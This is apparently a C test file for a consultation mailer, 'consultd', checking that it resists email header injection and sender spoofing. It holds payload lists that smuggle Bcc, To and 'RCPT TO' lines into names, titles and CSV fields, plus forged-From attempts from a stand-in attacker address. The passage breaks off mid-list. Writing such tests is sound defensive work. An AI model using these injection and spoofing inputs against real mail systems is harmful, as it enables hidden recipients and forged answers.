/* SPDX-License-Identifier: MIT */
/*
 * Injection and spoofing (issue 8): participant and consultation fields
 * that try to add a header or a recipient, with every outgoing message
 * re-parsed by GMime and its envelope checked; forged senders that try to
 * change someone's answers; spreadsheet formulas in the CSV export; SQL
 * in names and answers.  Everything goes through the consultd binary as
 * users run it, on smtp-sink or the .eml outbox of the embedded default.
 */
#include <check.h>
#include <glib/gstdio.h>
#include <gmime/gmime.h>
#include <sqlite3.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include "csvio.h"
#include "smtp_server.h"
#include "testutil.h"

Suite *inject_suite(void);

#define NOW 1796000000
#define DAY 86400
#define FROM_ADDR "consult@example.org"
#define DIGEST_TO "secretariat@example.org"
#define VICTIM "victim@example.org"
#define ATTACKER "attacker@evil.example"
#define COORDINATOR "coord@example.org"
#define COMMAND_SECRET "inject-test-command-secret-0123"
#define COMMANDS_CONF "[commands]\ncoordinators = " COORDINATOR "\n" \
	"secret_file = secret\n"

/* Consultation fields and participant values that try to break out. */
static const char *const payloads[] = {
	"Ann\rCarriage return",
	"Ann\nLine feed",
	"Ann\r\nBoth",
	"Ann\xe2\x80\xa8Line separator",
	"Ann\xe2\x80\xa9Paragraph separator",
	"Ann\r\nBcc: " VICTIM,
	"Ann\nSubject: x",
	"Ann\r\n\r\nInjected body",
	"Ann\nTo: " VICTIM "\nCc: " VICTIM,
	"Ann <" VICTIM ">",
	VICTIM ", Ann",
	"=?utf-8?q?victim=40example.org?=",
	"Ann\x0b\x0c\x1b[31m controls",
};

/* The headers our mail may have; anything else is an injected one. */
static const char *const allowed_headers[] = {
	"Date", "From", "Reply-To", "To", "Subject", "Message-Id",
	"In-Reply-To", "References", "Auto-Submitted", "List-Unsubscribe",
	"MIME-Version", "Content-Type", "Content-Transfer-Encoding", NULL
};

/* The headers every message has exactly once. */
static const char *const once_headers[] = {
	"Date", "From", "To", "Subject", "Message-Id", "MIME-Version", NULL
};

static void
set_now(int64_t t)
{
	g_autofree char *v = g_strdup_printf("%lld", (long long)t);

	g_setenv("CONSULTD_NOW", v, TRUE);
}

/* Runs consultd in dir, which must succeed; returns its output. */
static char *
run_ok(const char *dir, const char *const *args)
{
	g_autofree char *err = NULL;
	char *out = NULL;
	int status = testutil_run(dir, args, &out, &err);

	ck_assert_msg(status == 0, "consultd %s: exit %d: %s", args[0],
	    status, err);
	return out;
}

#define RUN(dir, ...) \
	g_free(run_ok((dir), (const char *const[]){ __VA_ARGS__, NULL }))

/*
 * The first column of the first row, ?1 and ?2 bound to arg and arg2
 * (either may be NULL); NULL when there is no row.
 */
static char *
db_text2(sqlite3 *db, const char *sql, const char *arg, const char *arg2)
{
	sqlite3_stmt *st = testutil_db_prepare(db, sql, arg, arg2);
	char *v = NULL;

	if (sqlite3_step(st) == SQLITE_ROW && sqlite3_column_text(st, 0))
		v = g_strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	return v;
}

static char *
db_text(sqlite3 *db, const char *sql, const char *arg)
{
	return db_text2(db, sql, arg, NULL);
}

/* The same for an integer, ?1 and ?2 bound to arg and arg2; -1: no row. */
static int64_t
db_int2(sqlite3 *db, const char *sql, const char *arg, const char *arg2)
{
	sqlite3_stmt *st = testutil_db_prepare(db, sql, arg, arg2);
	int64_t v = -1;

	if (sqlite3_step(st) == SQLITE_ROW)
		v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return v;
}

static int64_t
db_int(sqlite3 *db, const char *sql, const char *arg)
{
	return db_int2(db, sql, arg, NULL);
}

static char *
token_of(const char *dir, const char *email)
{
	sqlite3 *db = testutil_db_open(dir);
	char *token = db_text(db, "SELECT i.token FROM invitation i JOIN"
	    " participant p ON p.id = i.participant_id WHERE p.email = ?",
	    email);

	sqlite3_close(db);
	ck_assert_msg(token != NULL, "%s was not invited", email);
	return token;
}

/* Appends v as one quoted CSV field (quotes doubled), then sep. */
static void
csv_cell(GString *out, const char *v, char sep)
{
	const char *p;

	g_string_append_c(out, '"');
	for (p = v; *p; p++) {
		if (*p == '"')
			g_string_append_c(out, '"');
		g_string_append_c(out, *p);
	}
	g_string_append_c(out, '"');
	g_string_append_c(out, sep);
}

/* The line the next byte of csv is on, as csvio counts (LF, CRLF, CR). */
static unsigned
csv_next_line(const GString *csv)
{
	unsigned line = 1;
	size_t i;

	for (i = 0; i < csv->len; i++)
		if (csv->str[i] == '\n' || (csv->str[i] == '\r' &&
		    (i + 1 >= csv->len || csv->str[i + 1] != '\n')))
			line++;
	return line;
}

/* What the import stores for a value: line ends LF, trimmed. */
static char *
stored_form(const char *v)
{
	GString *out = g_string_new(NULL);
	const char *p;

	for (p = v; *p; p++) {
		if (p[0] == '\r' && p[1] == '\n')
			continue;
		g_string_append_c(out, *p == '\r' ? '\n' : *p);
	}
	g_strstrip(out->str);
	return g_string_free(out, FALSE);
}

/* Writes a consultation folder dir/def/NAME with fields from the caller. */
static void
write_definition(const char *dir, const char *name, const char *title,
    const char *consent)
{
	g_autofree char *def = g_build_filename(dir, "def", name, NULL);
	g_autoptr(GKeyFile) kf = g_key_file_new();
	g_autofree char *ini = NULL;

	ck_assert_int_eq(g_mkdir_with_parents(def, 0755), 0);
	/* GKeyFile writes \r, \n as escapes, which a title may hold. */
	g_key_file_set_string(kf, "consultation", "title", title);
	g_key_file_set_string(kf, "consultation", "reply_address", FROM_ADDR);
	g_key_file_set_string(kf, "consultation", "deadline", "2030-01-31");
	g_key_file_set_string(kf, "consultation", "consent", consent);
	g_key_file_set_string(kf, "Q1", "kind", "text");
	g_key_file_set_string(kf, "Q1", "prompt", "What worked well?");
	g_key_file_set_string(kf, "Q2", "kind", "text");
	g_key_file_set_string(kf, "Q2", "prompt", "What worked less well?");
	g_key_file_set_string(kf, "Q3", "kind", "text");
	g_key_file_set_string(kf, "Q3", "prompt", "What would you change?");
	g_key_file_set_string(kf, "R1", "kind", "rating");
	g_key_file_set_string(kf, "R1", "prompt", "Usefulness");
	g_key_file_set_string(kf, "R1", "scale", "1-5");
	ini = g_key_file_to_data(kf, NULL, NULL);
	g_free(testutil_write(def, "consultation.ini", ini));
	/* Names in every subject: the most exposed place there is. */
	g_free(testutil_write(def, "invitation.txt",
	    "Subject: {{title}} for {{name}}\n\nDear {{name}},\n\n"
	    "{{consent}}\n\n{{questions}}\n"));
	g_free(testutil_write(def, "reminder.txt",
	    "Subject: Reminder for {{name}}: {{title}}\n\nDear {{name}},\n\n"
	    "{{answers}}\n{{missing}}\n{{questions}}\n"));
	g_free(testutil_write(def, "acknowledgement.txt",
	    "Subject: Received from {{name}}: {{title}}\n\nDear {{name}},\n\n"
	    "{{answers}}\n{{consent}}\n"));
}

/* A workspace on smtp-sink (sink not NULL) or on the .eml outbox. */
static char *
make_workspace(const struct smtp_server *sink)
{
	char *dir = testutil_tmpdir();
	g_autofree char *conf = NULL;
	g_autofree char *secret = NULL;

	/* No display name in [smtp] from: the title becomes it. */
	if (sink)
		conf = g_strdup_printf("[smtp]\nurl = %s\ntls = none\n"
		    "from = " FROM_ADDR "\nrate = 1000/s\n"
		    "[digest]\nto = " DIGEST_TO "\n" COMMANDS_CONF,
		    smtp_server_url(sink));
	else
		conf = g_strdup("[smtp]\nfrom = " FROM_ADDR "\n"
		    "[digest]\nto = " DIGEST_TO "\n" COMMANDS_CONF);
	g_free(testutil_write(dir, "consultd.conf", conf));
	secret = testutil_write(dir, "secret", COMMAND_SECRET "\n");
	ck_assert_int_eq(g_chmod(secret, 0600), 0);
	RUN(dir, "init", ".");
	return dir;
}

static GMimeMessage *
parse_mail(const char *data, size_t len)
{
	GMimeStream *stream = g_mime_stream_mem_new_with_buffer(data, len);
	GMimeParser *parser = g_mime_parser_new_with_stream(stream);
	GMimeMessage *msg = g_mime_parser_construct_message(parser, NULL);

	g_object_unref(parser);
	g_object_unref(stream);
	return msg;
}

/*
 * A decoded header text that still holds a line break or a control once
 * unfolded (RFC 5322 section 2.2.3: GMime leaves the folding between the
 * quoted words of a long display name in the name).
 */
static bool
text_broken(const char *s)
{
	const char *p;

	if (!s)
		return false;
	if (!g_utf8_validate(s, -1, NULL))
		return true;
	for (p = s; *p; p += g_utf8_skip[(unsigned char)*p]) {
		gunichar c = g_utf8_get_char(p);

		if (p[0] == '\r' && p[1] == '\n' && (p[2] == ' ' ||
		    p[2] == '\t')) {
			p += 2;
			continue;
		}
		if (p[0] == '\n' && (p[1] == ' ' || p[1] == '\t')) {
			p++;
			continue;
		}

		if (c < 0x20 || c == 0x7f || c == 0x85 || c == 0x2028 ||
		    c == 0x2029)
			return true;
	}
	return false;
}

static bool
in_list(const char *const *list, const char *name)
{
	size_t i;

	for (i = 0; list[i]; i++)
		if (g_ascii_strcasecmp(list[i], name) == 0)
			return true;
	return false;
}

/* What the checks of outgoing mail counted. */
struct tally {
	unsigned messages;
	unsigned reparsed;
	unsigned extra_headers;		/* not ours, or ours twice */
	unsigned broken_values;		/* line breaks, controls left */
	unsigned wrong_recipients;	/* To or RCPT not the intended one */
	unsigned envelopes;		/* RCPT lists checked */
	GString *problems;
};

static void
tally_problem(struct tally *t, unsigned *counter, const char *mid,
    const char *what)
{
	(*counter)++;
	if (t->problems->len < 2000)
		g_string_append_printf(t->problems, "\n  %.80s: %.120s",
		    mid ? mid : "?", what);
}

/* The raw header block: every line is a header of ours or folded. */
static void
check_raw_headers(struct tally *t, const char *data, const char *mid)
{
	const char *end = strstr(data, "\n\n");
	const char *alt = strstr(data, "\r\n\r\n");
	g_autofree char *block = NULL;
	g_auto(GStrv) lines = NULL;
	size_t i;

	if (alt && (!end || alt < end))
		end = alt;
	ck_assert_ptr_nonnull(end);
	block = g_strndup(data, (gsize)(end - data));
	lines = g_strsplit(block, "\n", -1);
	for (i = 0; lines[i]; i++) {
		g_autofree char *name = NULL;
		char *colon;

		g_strchomp(lines[i]);
		if (lines[i][0] == ' ' || lines[i][0] == '\t')
			continue;
		colon = strchr(lines[i], ':');
		name = colon ? g_strndup(lines[i], (gsize)(colon -
		    lines[i])) : g_strdup(lines[i]);
		if (!in_list(allowed_headers, name))
			tally_problem(t, &t->extra_headers, mid,
			    "raw header line not ours");
	}
}

static void
check_mailboxes(struct tally *t, InternetAddressList *list, const char *mid,
    const char *want, bool must)
{
	InternetAddress *ia;
	int n = list ? internet_address_list_length(list) : 0;

	if (!must && n == 0)
		return;
	if (n != 1) {
		tally_problem(t, &t->wrong_recipients, mid,
		    "not exactly one mailbox");
		return;
	}
	ia = internet_address_list_get_address(list, 0);
	if (!INTERNET_ADDRESS_IS_MAILBOX(ia)) {
		tally_problem(t, &t->wrong_recipients, mid, "a group");
		return;
	}
	if (text_broken(internet_address_get_name(ia)))
		tally_problem(t, &t->broken_values, mid, "display name");
	if (want && strcmp(internet_address_mailbox_get_addr(
	    INTERNET_ADDRESS_MAILBOX(ia)), want) != 0)
		tally_problem(t, &t->wrong_recipients, mid, "wrong address");
}

/*
 * Re-parses one outgoing message and checks it against the outbox row it
 * came from: exactly our headers, each once where it must be, one To with
 * the intended address, no line break left in a decoded value.
 * rcpt/nrcpt: the SMTP envelope, or NULL for an .eml file.
 */
static void
check_outgoing(struct tally *t, sqlite3 *db, GHashTable *seen,
    const char *data, size_t len, const char *rcpt, unsigned nrcpt)
{
	GMimeMessage *msg = parse_mail(data, len);
	GMimeHeaderList *hl;
	InternetAddressList *reply_to;
	g_autofree char *want = NULL;
	g_autofree char *envelope = NULL;
	const char *mid;
	int i, n;
	size_t j;

	t->messages++;
	ck_assert_msg(msg != NULL, "GMime cannot parse an outgoing message");
	t->reparsed++;
	mid = g_mime_message_get_message_id(msg);
	ck_assert_msg(mid != NULL, "outgoing message without Message-Id");
	ck_assert_msg(g_hash_table_add(seen, g_strdup(mid)),
	    "message %s went out twice", mid);
	want = db_text(db, "SELECT recipient FROM outbox WHERE message_id = ?",
	    mid);
	ck_assert_msg(want != NULL, "message %s is not in the outbox", mid);
	check_raw_headers(t, data, mid);
	hl = g_mime_object_get_header_list(GMIME_OBJECT(msg));
	n = g_mime_header_list_get_count(hl);
	for (i = 0; i < n; i++) {
		GMimeHeader *h = g_mime_header_list_get_header_at(hl, i);

		if (!in_list(allowed_headers, g_mime_header_get_name(h)))
			tally_problem(t, &t->extra_headers, mid,
			    g_mime_header_get_name(h));
	}
	for (j = 0; once_headers[j]; j++) {
		int count = 0;

		for (i = 0; i < n; i++)
			count += g_ascii_strcasecmp(g_mime_header_get_name(
			    g_mime_header_list_get_header_at(hl, i)),
			    once_headers[j]) == 0;
		if (count != 1)
			tally_problem(t, &t->extra_headers, mid,
			    once_headers[j]);
	}
	if (text_broken(g_mime_message_get_subject(msg)))
		tally_problem(t, &t->broken_values, mid, "subject");
	check_mailboxes(t, g_mime_message_get_to(msg), mid, want, true);
	check_mailboxes(t, g_mime_message_get_from(msg), mid, FROM_ADDR,
	    true);
	reply_to = g_mime_message_get_reply_to(msg);
	check_mailboxes(t, reply_to, mid, NULL, false);
	if (internet_address_list_length(g_mime_message_get_cc(msg)) ||
	    internet_address_list_length(g_mime_message_get_bcc(msg)))
		tally_problem(t, &t->wrong_recipients, mid, "Cc or Bcc");
	if (rcpt) {
		t->envelopes++;
		envelope = g_strdup_printf("<%s>", want);
		if (nrcpt != 1 || strcmp(rcpt, envelope) != 0)
			tally_problem(t, &t->wrong_recipients, mid,
			    "envelope recipient");
	}
	g_object_unref(msg);
}

/* Every message sent so far, from the sink or the .eml outbox. */
static void
check_all_outgoing(struct tally *t, const char *dir,
    const struct smtp_server *sink)
{
	g_autoptr(GHashTable) seen = g_hash_table_new_full(g_str_hash,
	    g_str_equal, g_free, NULL);
	sqlite3 *db = testutil_db_open(dir);
	size_t i;

	if (sink) {
		g_autoptr(GPtrArray) msgs = smtp_server_messages(sink);

		for (i = 0; i < msgs->len; i++) {
			const struct smtp_server_message *m = msgs->pdata[i];

			check_outgoing(t, db, seen, m->data, m->len,
			    m->rcpt_args, m->nrcpt);
		}
	} else {
		g_autofree char *outbox = g_build_filename(dir, "spool",
		    "outbox", NULL);
		GDir *d = g_dir_open(outbox, 0, NULL);
		const char *name;

		ck_assert_ptr_nonnull(d);
		while ((name = g_dir_read_name(d)) != NULL) {
			g_autofree char *path = g_build_filename(outbox, name,
			    NULL);
			g_autofree char *data = NULL;
			gsize len;

			ck_assert(g_file_get_contents(path, &data, &len, NULL));
			check_outgoing(t, db, seen, data, len, NULL, 0);
		}
		g_dir_close(d);
	}
	/* Every message the outbox says it sent was looked at. */
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " status = 'sent'", NULL), t->messages);
	sqlite3_close(db);
}

/* 2,000-character values: no spaces, words, non-ASCII, repeated Bcc. */
static GPtrArray *
all_payloads(void)
{
	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
	GString *words = g_string_new(NULL);
	GString *accents = g_string_new(NULL);
	GString *bcc = g_string_new(NULL);
	size_t i;

	for (i = 0; i < G_N_ELEMENTS(payloads); i++)
		g_ptr_array_add(out, g_strdup(payloads[i]));
	g_ptr_array_add(out, g_strnfill(2000, 'x'));
	while (words->len < 2000)
		g_string_append(words, words->len ? " word" : "word");
	g_ptr_array_add(out, g_string_free(words, FALSE));
	while (g_utf8_strlen(accents->str, -1) < 2000)
		g_string_append(accents, "\xc3\xa9");
	g_ptr_array_add(out, g_string_free(accents, FALSE));
	while (bcc->len < 2000)
		g_string_append(bcc, "Ann\r\nBcc: " VICTIM "\r\n");
	g_strchomp(bcc->str);
	g_ptr_array_add(out, g_string_free(bcc, FALSE));
	return out;
}

/* An email cell that must be refused, and what the error must say. */
struct bad_row {
	const char *cell;	/* as written in the file, quoted if needed */
	size_t len;		/* 0: strlen(cell) */
	const char *why;
};

static const struct bad_row bad_rows[] = {
	{ "\"c@example.org\r\nBcc: " VICTIM "\"", 0, "several lines" },
	{ "\"d@example.org\nRCPT TO:<" VICTIM ">\"", 0, "several lines" },
	{ "\"e@example.org\r\"", 0, "several lines" },
	{ "\"\nf@example.org\"", 0, "several lines" },
	{ "<g@example.org>", 0, "without '<' and '>'" },
	{ "h@example.org>", 0, "without '<' and '>'" },
	{ "\"Victim <i@example.org>\"", 0, "white space" },
	{ "\"j k@example.org\"", 0, "white space" },
	{ "\"l@example.org\tm@example.org\"", 0, "white space" },
	{ "n@exa\0mple.org", 14, "not valid UTF-8" },
};

/*
 * The participant file: n good rows carrying the payloads in every
 * field (rotated by round), then the bad rows, whose line numbers go to
 * lines_out.  A good address whose name holds a NUL is refused too.
 */
static char *
write_participants(const char *dir, GPtrArray *vals, unsigned rounds,
    unsigned *good_out, GArray *lines_out)
{
	GString *csv = g_string_new("email,name,stakeholder_group,bpf,role,"
	    "language,organisation,country\n");
	static const char nul_name[] = "o@example.org,O\0Bcc: " VICTIM "\n";
	g_autofree char *long_local = NULL;
	unsigned n = vals->len, r, i, k, line;
	char *path;

	for (r = 0; r < rounds; r++)
		for (i = 0; i < n; i++) {
			g_autofree char *email = g_strdup_printf(
			    "p%03u@example.org", r * n + i);

			g_string_append_printf(csv, "%s,", email);
			for (k = 0; k < 7; k++)
				csv_cell(csv, vals->pdata[(i + k * (r + 1)) %
				    n], k == 6 ? '\n' : ',');
		}
	*good_out = rounds * n;
	for (i = 0; i < G_N_ELEMENTS(bad_rows); i++) {
		line = csv_next_line(csv);
		g_array_append_val(lines_out, line);
		g_string_append_len(csv, bad_rows[i].cell, bad_rows[i].len ?
		    (gssize)bad_rows[i].len : -1);
		g_string_append(csv, ",Refused\n");
	}
	line = csv_next_line(csv);
	g_array_append_val(lines_out, line);
	long_local = g_strnfill(2000, 'a');
	g_string_append_printf(csv, "%s@example.org,Long\n", long_local);
	line = csv_next_line(csv);
	g_array_append_val(lines_out, line);
	g_string_append_len(csv, nul_name, sizeof(nul_name) - 1);
	path = g_build_filename(dir, "participants.csv", NULL);
	ck_assert(g_file_set_contents(path, csv->str, (gssize)csv->len, NULL));
	g_string_free(csv, TRUE);
	return path;
}

/* Every line of an error output is ours: no echoed value broke one. */
static void
check_error_lines(const char *err)
{
	g_auto(GStrv) lines = g_strsplit(err, "\n", -1);
	size_t i;

	for (i = 0; lines[i]; i++)
		ck_assert_msg(!*lines[i] || g_str_has_prefix(lines[i],
		    "  line ") || g_str_has_prefix(lines[i], "consultd: "),
		    "stray error line '%s' in:\n%s", lines[i], err);
}

static unsigned
import_participants(const char *dir, GPtrArray *vals, unsigned rounds,
    unsigned *good_out)
{
	g_autoptr(GArray) lines = g_array_new(FALSE, FALSE, sizeof(unsigned));
	g_autofree char *csv = write_participants(dir, vals, rounds, good_out,
	    lines);
	g_autofree char *out = NULL;
	g_autofree char *err = NULL;
	long long skipped = -1;
	const char *p;
	size_t i;
	int status;

	/* Refused: the exit code, each row by its line and why, nothing in. */
	status = testutil_run(dir, (const char *const[]){ "import", "inj",
	    csv, NULL }, NULL, &err);
	ck_assert_msg(status == 65, "import of bad addresses: exit %d", status);
	for (i = 0; i < lines->len; i++) {
		g_autofree char *at = g_strdup_printf("  line %u: ",
		    g_array_index(lines, unsigned, i));
		const char *why = i < G_N_ELEMENTS(bad_rows) ?
		    bad_rows[i].why : i == G_N_ELEMENTS(bad_rows) ?
		    "longer than" : "not valid UTF-8";

		p = strstr(err, at);
		ck_assert_msg(p != NULL, "no '%s' in:\n%s", at, err);
		ck_assert_msg(strstr(p, why) != NULL && strstr(p, why) <
		    strchr(p + 1, '\n'), "'%s' does not say '%s':\n%s", at,
		    why, err);
	}
	ck_assert(strstr(err, "nothing was imported") != NULL);
	ck_assert(strstr(err, "--skip-invalid") != NULL);
	check_error_lines(err);
	ck_assert_int_eq(testutil_db_int(dir, "SELECT count(*) FROM"
	    " participant"), 0);
	g_clear_pointer(&err, g_free);

	/* --skip-invalid: the rest goes in, the skipped rows are listed. */
	status = testutil_run(dir, (const char *const[]){ "import", "inj",
	    "--skip-invalid", csv, NULL }, &out, &err);
	ck_assert_msg(status == 0, "import --skip-invalid: exit %d: %s",
	    status, err);
	ck_assert(strstr(err, "skipped") != NULL);
	check_error_lines(err);
	p = strstr(out, "new, ");
	ck_assert_ptr_nonnull(p);
	p = strstr(p, "duplicate(s), ");
	ck_assert_ptr_nonnull(p);
	ck_assert_int_eq(sscanf(p, "duplicate(s), %lld skipped", &skipped), 1);
	ck_assert_int_eq(testutil_db_int(dir, "SELECT count(*) FROM"
	    " participant"), *good_out);
	ck_assert_int_eq(testutil_db_int(dir, "SELECT count(*) FROM"
	    " participant WHERE email NOT LIKE 'p%@example.org'"), 0);
	return (unsigned)skipped;
}

/* Names are stored as written (line ends LF), for the mail to use. */
static void
check_stored_names(const char *dir, GPtrArray *vals, unsigned good)
{
	sqlite3 *db = testutil_db_open(dir);
	unsigned i;

	for (i = 0; i < good; i++) {
		g_autofree char *email = g_strdup_printf("p%03u@example.org",
		    i);
		g_autofree char *name = db_text(db, "SELECT name FROM"
		    " participant WHERE email = ?", email);
		g_autofree char *want = stored_form(vals->pdata[i % vals->len]);

		ck_assert_msg(name && strcmp(name, want) == 0,
		    "name of %s stored as '%s'", email, name);
	}
	sqlite3_close(db);
}

/* One reply per participant, with payloads in answers and references. */
static void
ingest_replies(const char *dir, GPtrArray *vals, unsigned good)
{
	g_autofree char *rdir = g_build_filename(dir, "replies", NULL);
	g_autoptr(GPtrArray) args = g_ptr_array_new_with_free_func(g_free);
	unsigned i;

	ck_assert_int_eq(g_mkdir(rdir, 0755), 0);
	g_ptr_array_add(args, g_strdup("ingest"));
	for (i = 0; i < good; i++) {
		g_autofree char *email = g_strdup_printf("p%03u@example.org",
		    i);
		g_autofree char *token = token_of(dir, email);
		g_autofree char *name = g_strdup_printf("r%03u.eml", i);
		g_autofree char *text = g_strdup_printf("From: %s\n"
		    "To: consult+%s@example.org\nSubject: Re: x\n"
		    "Message-ID: <reply-%u@example.org>\n"
		    "References: <ok-%u@example.org> <Bcc: " VICTIM ">\n"
		    " <a\"b@example.org>\n"
		    "Content-Type: text/plain; charset=utf-8\n\n"
		    "[Q1] %s\n\n[Q2] %s\n\n[END]\n", email, token, i, i,
		    (char *)vals->pdata[i % vals->len],
		    (char *)vals->pdata[(i + 1) % vals->len]);

		g_ptr_array_add(args, testutil_write(rdir, name, text));
	}
	g_ptr_array_add(args, NULL);
	g_free(run_ok(dir, (const char *const *)args->pdata));
}

/*
 * Part (a): the payloads go everywhere a participant or the consultation
 * can put text, then every kind of outgoing mail is checked.
 */
static void
injection_scenario(bool smtp)
{
	g_autoptr(GPtrArray) vals = all_payloads();
	g_autofree char *why = NULL;
	g_autofree char *title = NULL;
	g_autofree char *err = NULL;
	struct smtp_server *sink = NULL;
	struct tally t = { 0 };
	unsigned rounds = testutil_scale(1, 4);
	unsigned good = 0, refused, refused_to = 0;
	sqlite3 *db;
	char *dir;
	size_t i;
	int status;

	g_mime_init();
	if (smtp) {
		sink = smtp_server_start(NULL, true, &why);
		ck_assert_msg(sink != NULL, "cannot start smtp-sink: %s", why);
	}
	t.problems = g_string_new(NULL);
	dir = make_workspace(sink);
	title = g_strdup_printf("Review\r\nBcc: " VICTIM "\nSubject: x"
	    "\xe2\x80\xa8To: " VICTIM "\xe2\x80\xa9%s", (char *)
	    vals->pdata[vals->len - 1]);
	write_definition(dir, "inj", title, "Consent\r\nBcc: " VICTIM);
	set_now(NOW - DAY);
	RUN(dir, "load", "def/inj");
	refused = import_participants(dir, vals, rounds, &good);
	check_stored_names(dir, vals, good);

	set_now(NOW);
	RUN(dir, "invite", "inj");
	set_now(NOW + 3600);
	ingest_replies(dir, vals, good);
	set_now(NOW + 8 * DAY);
	RUN(dir, "remind", "inj");
	set_now(NOW + 8 * DAY + 60);
	RUN(dir, "digest", "inj");
	/* A recipient given on the command line is checked as well. */
	{
		static const char *const bad_to[] = {
			"x@example.org\r\nRCPT TO:<" VICTIM ">",
			"<" VICTIM ">",
			"x@example.org\nBcc: " VICTIM,
		};

		for (i = 0; i < G_N_ELEMENTS(bad_to); i++) {
			status = testutil_run(dir, (const char *const[]){
			    "digest", "inj", "--to", bad_to[i], NULL }, NULL,
			    &err);
			ck_assert_msg(status == 65, "digest --to '%s': exit %d",
			    bad_to[i], status);
			ck_assert(strstr(err, "invalid digest recipient"));
			g_clear_pointer(&err, g_free);
			refused_to++;
		}
	}
	/* A coordinator's command: the reply's subject quotes theirs. */
	g_free(testutil_write(dir, "command.eml", "From: " COORDINATOR "\n"
	    "To: " FROM_ADDR "\nMessage-ID: <cmd@example.org>\n"
	    "Subject: =?utf-8?q?Status_please=0D=0ABcc:_" VICTIM
	    "=0ASubject:_x?=\n\nSTATUS inj\n\n" COMMAND_SECRET "\n"));
	RUN(dir, "ingest", "command.eml");
	RUN(dir, "flush");

	db = testutil_db_open(dir);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " kind = 'invitation' AND status = 'sent'", NULL), good);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " kind = 'acknowledgement' AND status = 'sent'", NULL), good);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " kind = 'reminder' AND status = 'sent'", NULL), good);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " kind = 'digest' AND status = 'sent'", NULL), 1);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " status != 'sent'", NULL), 0);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " kind = 'command' AND recipient = '" COORDINATOR "'", NULL), 1);
	ck_assert_int_eq(db_int(db, "SELECT count(*) FROM outbox WHERE"
	    " recipient NOT IN ('" DIGEST_TO "', '" COORDINATOR "') AND"
	    " recipient NOT IN (SELECT email FROM participant)", NULL), 0);
	sqlite3_close(db);

	check_all_outgoing(&t, dir, sink);
	testutil_report("injection", "sink=%s messages=%u reparsed=%u "
	    "envelopes=%u extra_headers=%u broken_values=%u "
	    "wrong_recipients=%u refused_at_import=%u refused_recipients=%u",
	    smtp ? "smtp" : "eml", t.messages, t.reparsed, t.envelopes,
	    t.extra_headers, t.broken_values, t.wrong_recipients, refused,
	    refused_to);
	ck_assert_msg(t.extra_headers + t.broken_values + t.wrong_recipients ==
	    0, "outgoing mail is not what was intended:%s", t.problems->str);
	ck_assert_uint_eq(t.messages, 3 * good + 2);
	ck_assert_uint_eq(t.envelopes, smtp ? t.messages : 0);
	ck_assert_uint_eq(refused, G_N_ELEMENTS(bad_rows) + 2);

	g_string_free(t.problems, TRUE);
	smtp_server_stop(sink);
	testutil_rmtree(dir);
	g_free(dir);
	g_unsetenv("CONSULTD_NOW");
	g_mime_shutdown();
}

START_TEST(test_inject_fields_add_no_header_smtp)
{
	injection_scenario(true);
}
END_TEST

START_TEST(test_inject_fields_add_no_header_eml)
{
	injection_scenario(false);
}
END_TEST

/* What a forged or tricky message must (at most) achieve. */
enum spoof_class {
	SPOOF_UNRELATED,	/* no token, no known sender: touches nobody */
	SPOOF_LOW_TRUST,	/* B's address alone: may fill B's gaps only */
	SPOOF_BOUNCE,		/* a forged delivery report about B */
	SPOOF_TOKEN_A,		/* A's own token: A's answers, rightly */
	SPOOF_TOKEN_B,		/* B's token from A: a forwarded letter */
};

/*
 * Headers and body of each attempt; in both {A} and {B} become the
 * tokens of A and B, {G} a well-formed token nobody has, {BX} B's token
 * with one letter changed, {B31} B's token cut short, {N} the attempt's
 * number.  A NULL body answers every question.
 */
static const struct spoof {
	const char *what;
	enum spoof_class cls;
	const char *head;
	const char *body;
} spoofs[] = {
	{ "From B, no token", SPOOF_LOW_TRUST,
	  "From: b@example.org\n", NULL },
	{ "From B in capitals", SPOOF_LOW_TRUST,
	  "From: Bob <B@EXAMPLE.ORG>\n", NULL },
	{ "From B, Sender the attacker", SPOOF_LOW_TRUST,
	  "From: b@example.org\nSender: " ATTACKER "\n", NULL },
	{ "WITHDRAW from B without token", SPOOF_LOW_TRUST,
	  "From: b@example.org\nSubject: WITHDRAW\n", "WITHDRAW\n" },
	{ "quoted address as display name", SPOOF_UNRELATED,
	  "From: \"b@example.org\" <" ATTACKER ">\n", NULL },
	{ "bare address as display name", SPOOF_UNRELATED,
	  "From: b@example.org <" ATTACKER ">\n", NULL },
	{ "encoded address as display name", SPOOF_UNRELATED,
	  "From: =?utf-8?q?b=40example.org?= <" ATTACKER ">\n", NULL },
	{ "address in a comment", SPOOF_UNRELATED,
	  "From: " ATTACKER " (b@example.org)\n", NULL },
	{ "two addresses in From", SPOOF_UNRELATED,
	  "From: b@example.org, " ATTACKER "\n", NULL },
	{ "two From fields", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nFrom: b@example.org\n", NULL },
	{ "B in a group", SPOOF_UNRELATED,
	  "From: Friends: b@example.org;\n", NULL },
	{ "Reply-To B", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nReply-To: b@example.org\n", NULL },
	{ "Sender B", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nSender: b@example.org\n", NULL },
	{ "Return-Path and Resent-From B", SPOOF_UNRELATED,
	  "Return-Path: <b@example.org>\nFrom: " ATTACKER "\n"
	  "Resent-From: b@example.org\n", NULL },
	{ "guessed token in the address", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nTo: consult+{G}@example.org\n", NULL },
	{ "guessed token in In-Reply-To", SPOOF_UNRELATED,
	  "From: " ATTACKER "\n"
	  "In-Reply-To: <consultd.invitation.{G}.00000000@example.org>\n",
	  NULL },
	{ "B's token with one letter changed", SPOOF_UNRELATED,
	  "From: " ATTACKER "\nTo: consult+{BX}@example.org\n",
	  "[Q1] PWNED-{N}\n[Q2] PWNED-{N}\n[END]\n\nRef: {BX}\n" },
	{ "B's token cut short", SPOOF_UNRELATED,
